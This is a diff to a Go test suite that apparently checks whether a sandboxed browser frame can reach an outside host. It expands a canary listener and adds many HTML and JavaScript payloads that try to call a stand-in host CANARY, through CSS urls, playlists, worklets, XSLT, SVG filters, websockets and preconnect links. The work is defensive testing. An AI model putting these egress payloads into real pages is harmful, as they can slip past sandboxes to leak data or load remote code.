@@ -23,7 +23,8 @@ type canary struct {
 	how  string        // of the first hit
 
 	mu   sync.Mutex
-	said []string // the first lines that came
+	said []string // the first line of each connection, and each datagram
+	shut func()   // hears no more, once everything that came was heard to its end
 }
 
 func newCanary(t *testing.T) *canary {
@@ -40,7 +41,8 @@ func newCanary(t *testing.T) *canary {
 	var wg sync.WaitGroup
 	wg.Go(c.serveTCP)
 	wg.Go(c.serveUDP)
-	t.Cleanup(func() { _ = tcp.Close(); _ = udp.Close(); wg.Wait() })
+	c.shut = func() { _ = tcp.Close(); _ = udp.Close(); wg.Wait() }
+	t.Cleanup(c.shut)
 	return c
 }
 
@@ -58,7 +60,13 @@ func (c *canary) heard() string {
 	return fmt.Sprintf("%s, saying %q", c.how, c.said)
 }
 
-// lines are the first lines of what came over TCP.
+func (c *canary) note(said string) {
+	c.mu.Lock()
+	defer c.mu.Unlock()
+	c.said = append(c.said, said)
+}
+
+// lines are the first line of each connection, and each datagram.
 func (c *canary) lines() []string {
 	c.mu.Lock()
 	defer c.mu.Unlock()
@@ -79,9 +87,7 @@ func (c *canary) serveTCP() {
 			defer conn.Close()
 			_ = conn.SetReadDeadline(time.Now().Add(time.Second))
 			line, _ := bufio.NewReader(conn).ReadString('\n')
-			c.mu.Lock()
-			c.said = append(c.said, line)
-			c.mu.Unlock()
+			c.note(line)
 			_, _ = fmt.Fprint(conn, "HTTP/1.1 204 No Content\r\nAccess-Control-Allow-Origin: *\r\nConnection: close\r\n\r\n")
 		})
 	}
@@ -90,9 +96,11 @@ func (c *canary) serveTCP() {
 func (c *canary) serveUDP() {
 	buf := make([]byte, 2048)
 	for {
-		if _, _, err := c.udp.ReadFrom(buf); err != nil {
+		n, _, err := c.udp.ReadFrom(buf)
+		if err != nil {
 			return
 		}
+		c.note(string(buf[:n]))
 		c.sing("a datagram")
 	}
 }
@@ -192,6 +200,7 @@ var attacks = []attack{
 	{name: "svg image", page: `<svg><image href="http://CANARY/x.png" width=9 height=9 /></svg>`},
 	{name: "css import", page: `<style>@import url("http://CANARY/x.css");</style>`},
 	{name: "css url", page: `<div style="background:url(http://CANARY/x.png)">x</div>`},
+	{name: "css elsewhere", page: `<div style="cursor:url(http://CANARY/c),auto;mask-image:url(http://CANARY/m);list-style:url(http://CANARY/l);border-image:url(http://CANARY/b)">x</div>`},
 	{name: "stylesheet", page: `<link rel=stylesheet href="http://CANARY/x.css">`},
 	{name: "font", page: `<style>@font-face{font-family:x;src:url(http://CANARY/x.woff2)}p{font-family:x}</style><p>text</p>`},
 	{name: "icon", holds: "icons of frames are not loaded", page: `<link rel=icon href="http://CANARY/x.ico">`},
@@ -199,23 +208,29 @@ var attacks = []attack{
 	{name: "video", page: `<video src="http://CANARY/x.mp4" autoplay muted></video>`},
 	{name: "video poster", page: `<video poster="http://CANARY/x.png"></video>`},
 	{name: "audio", page: js(`new Audio("http://CANARY/x.mp3").play().catch(()=>{})`)},
+	{name: "playlist", page: js("var v=document.createElement('video');v.muted=v.autoplay=true;document.body.append(v);v.src=URL.createObjectURL(new Blob(['#EXTM3U\\n#EXT-X-VERSION:3\\n#EXT-X-TARGETDURATION:2\\n#EXTINF:2,\\nhttp://CANARY/a.ts\\n#EXT-X-ENDLIST\\n'],{type:'application/vnd.apple.mpegurl'}))")},
 	{name: "track", holds: "not loaded before the video is", page: `<video src="data:video/mp4;base64,AAAA"><track default src="http://CANARY/x.vtt"></video>`},
 	{name: "object", page: `<object data="http://CANARY/x"></object>`},
 	{name: "embed", page: `<embed src="http://CANARY/x">`},
 	{name: "script", page: `<script src="http://CANARY/x.js"></script>`},
 	{name: "module import", page: js(`import("http://CANARY/x.js").catch(()=>{})`)},
+	{name: "audio worklet", page: js(`new AudioContext().audioWorklet.addModule("http://CANARY/x.js").catch(()=>{})`)},
+	{name: "xslt stylesheet", page: `<iframe src="/x.xml"></iframe>`, more: map[string]string{"x.xml": `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="http://CANARY/x.xsl"?><a/>`}},
+	{name: "xslt import", page: js("try{new XSLTProcessor().importStylesheet(new DOMParser().parseFromString('<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\"><xsl:import href=\"http://CANARY/i.xsl\"/></xsl:stylesheet>','text/xml'))}catch{}")},
 	{name: "fetch", page: js(`fetch("http://CANARY/x",{mode:"no-cors"}).catch(()=>{})`)},
 	{name: "fetch keepalive", page: js(`fetch("http://CANARY/x",{mode:"no-cors",keepalive:true,method:"POST",body:"x"}).catch(()=>{})`)},
 	{name: "xhr", page: js(`var x=new XMLHttpRequest();x.open("GET","http://CANARY/x");x.send()`)},
 	{name: "xhr synchronous", page: js(`var x=new XMLHttpRequest();x.open("GET","http://CANARY/x",false);try{x.send()}catch{}`)},
 	{name: "beacon", page: js(`navigator.sendBeacon("http://CANARY/x","data")`)},
 	{name: "event source", page: js(`new EventSource("http://CANARY/x")`)},
+	{name: "fetch later", page: js(`try{fetchLater("http://CANARY/x",{activateAfter:0})}catch{}`)},
 	{name: "websocket", page: js(`new WebSocket("ws://CANARY/x")`)},
 	{name: "webtransport", page: js(`try{new WebTransport("https://CANARY/x").ready.catch(()=>{})}catch{}`)},
 	{name: "webrtc", holds: "it names no server; without shim.js the page would die of it", page: js(`new RTCPeerConnection()`)},
 	{name: "webrtc stun", falls: canvasOpen, page: inFrame("about:blank", webrtc("stun:CANARY"))},
 	{name: "webrtc turn over tcp", falls: canvasOpen, page: inFrame("about:blank", webrtc("turn:CANARY?transport=tcp"))},
 	{name: "blob worker", page: js("new Worker(URL.createObjectURL(new Blob([`" + workerBody + "`])))")},
+	{name: "websocket of a blob worker", page: js("new Worker(URL.createObjectURL(new Blob([`new WebSocket('ws://CANARY/')`])))")},
 	{name: "worker", page: js(`new Worker("/w.js")`), more: map[string]string{"w.js": workerBody}},
 	{name: "shared worker", page: js(`new SharedWorker("/w.js")`), more: map[string]string{"w.js": workerBody}},
 	{name: "worker of another origin", holds: "browsers start workers from the same origin alone", page: js(`try{new Worker("http://CANARY/w.js")}catch{}`)},
@@ -229,6 +244,7 @@ var attacks = []attack{
 	{name: "blank frame", page: inFrame("about:blank", sendImage+sendFetch)},
 	{name: "javascript frame", page: `<iframe src="javascript:'<img src=http://CANARY/x>'"></iframe>`},
 	{name: "nested canvas frame", page: `<iframe src="/sub.html"></iframe>`, more: map[string]string{"sub.html": `<!doctype html><img src="http://CANARY/x">`}},
+	{name: "nested drawing", page: `<iframe src="/x.svg"></iframe>`, more: map[string]string{"x.svg": `<svg xmlns="http://www.w3.org/2000/svg"><filter id="f"><feImage href="http://CANARY/f.png"/></filter><rect width="9" height="9" filter="url(#f)"/><script href="http://CANARY/s.js"/><foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="http://CANARY/i"/></foreignObject></svg>`}},
 	{name: "frame that navigates", falls: canvasOpen, page: inFrame("/sub.html", `w.location="http://CANARY/x"`), more: map[string]string{"sub.html": `<!doctype html>x`}},
 	{name: "error page of the worker", page: inFrame("/absent.html", sendImage+sendFetch)},
 	{name: "error page of the host", page: inFrame("/.ahp/absent.html", sendImage+sendFetch)},
@@ -253,6 +269,8 @@ var attacks = []attack{
 	{name: "link to top", falls: unsandbox, page: `<a id=a href="http://CANARY/x" target=_top>x</a>` + js(`a.click()`)},
 	{name: "link", falls: canvasOpen, page: `<a id=a href="http://CANARY/x">x</a>` + js(`a.click()`)},
 	{name: "link to a new window", falls: unsandbox, page: `<a id=a href="http://CANARY/x" target=_blank>x</a>` + js(`a.click()`)},
+	{name: "link to a new window over TLS", falls: unsandbox, page: `<a id=a href="https://CANARY/x" target=_blank>x</a>` + js(`a.click()`)},
+	{name: "link that is pointed at", holds: "only where it can be opened", page: `<a id=a href="http://CANARY/x">x</a>` + js(`for(var e of ["mouseover","mousedown","mouseup"])a.dispatchEvent(new MouseEvent(e,{bubbles:true}));a.focus()`)},
 	{name: "window.open", falls: unsandbox, page: js(`window.open("http://CANARY/x")`)},
 	{name: "window.open of the outer frame", falls: unsandbox, page: js(`parent.open("http://CANARY/x")`)},
 	{name: "ping", page: `<a id=a href="#x" ping="http://CANARY/x">x</a>` + js(`a.click()`)},
@@ -266,6 +284,8 @@ var attacks = []attack{
 	{name: "preload", page: `<link rel=preload as=image href="http://CANARY/x">`},
 	{name: "modulepreload", page: `<link rel=modulepreload href="http://CANARY/x.js">`},
 	{name: "preconnect", holds: "not done in a frame of this kind", page: `<link rel=preconnect href="http://CANARY/">`},
+	{name: "preconnect over TLS", holds: "not done in a frame of this kind", page: `<link rel=preconnect href="https://CANARY/">`},
+	{name: "preconnect of the outer frame", holds: "not done in a frame of this kind", page: js(`parent.document.head.insertAdjacentHTML("beforeend","<link rel=preconnect href=http://CANARY/>")`)},
 	{name: "speculation rules", holds: "not done in frames", page: `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["http://CANARY/x"]}],"prerender":[{"source":"list","urls":["http://CANARY/y"]}]}</script>`},
 	{name: "header: report of a policy", falls: headersToo, headers: map[string]string{"Content-Security-Policy": "img-src 'none'; report-uri http://CANARY/r"}, page: `<img src="/x.png">`},
 	{name: "header: report only", falls: headersToo, headers: map[string]string{"Content-Security-Policy-Report-Only": "img-src 'none'; report-uri http://CANARY/r"}, page: `<img src="/x.png">`},
